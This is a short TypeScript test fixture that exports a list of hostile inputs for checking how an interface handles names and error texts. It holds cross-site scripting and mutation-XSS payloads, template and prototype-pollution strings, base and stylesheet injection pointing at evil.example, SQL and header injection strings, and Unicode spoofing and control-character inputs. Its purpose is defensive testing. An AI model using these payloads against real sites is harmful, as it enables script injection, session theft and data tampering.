const MARK = 'window.witness.pwned++';

/** Names, parameters and error texts as someone would send them who wishes no good. */
export const HOSTILE: readonly string[] = [
	`<script>${MARK}</script>`,
	`"><img src=x onerror="${MARK}">`,
	`'><svg onload=${MARK}>`,
	`<svg><animate onbegin=${MARK} attributeName=x dur=1s>`,
	`<math><mtext><table><mglyph><style><!--</style><img title="--><img src=1 onerror=${MARK}>">`,
	`<iframe srcdoc="<script>parent.witness.pwned++</script>">`,
	`<template><img src=x onerror=${MARK}></template>`,
	`javascript:${MARK}`,
	`data:text/html,<script>${MARK}</script>`,
	`{{constructor.constructor('${MARK}')()}}`,
	'${' + MARK + '}',
	`\`+${MARK}+\``,
	`<style>*{display:none}</style><link rel=stylesheet href=//evil.example/x.css>`,
	`<base href="//evil.example/"><form action="//evil.example/">`,
	'\u{202e}gnp.exe\u{202d} Ada \u{2066}\u{2067}',
	'Ada\u{0}Caller\u{7}\u{1b}[31m',
	'A\u{200b}d\u{200d}a\u{feff} \u{e0041}\u{e0042}',
	'Z\u{351}\u{36b}\u{343}\u{36a}\u{302}\u{36b}\u{33d}\u{34f}'.repeat(40),
	`Ada"; drop table calls; --`,
	'%3Cimg%20src%3Dx%20onerror%3Dwitness.pwned%2B%2B%3E',
	'__proto__',
	'A\r\nSet-Cookie: a=b\r\n\r\n<b>x</b>',
	'W'.repeat(100_000)
];
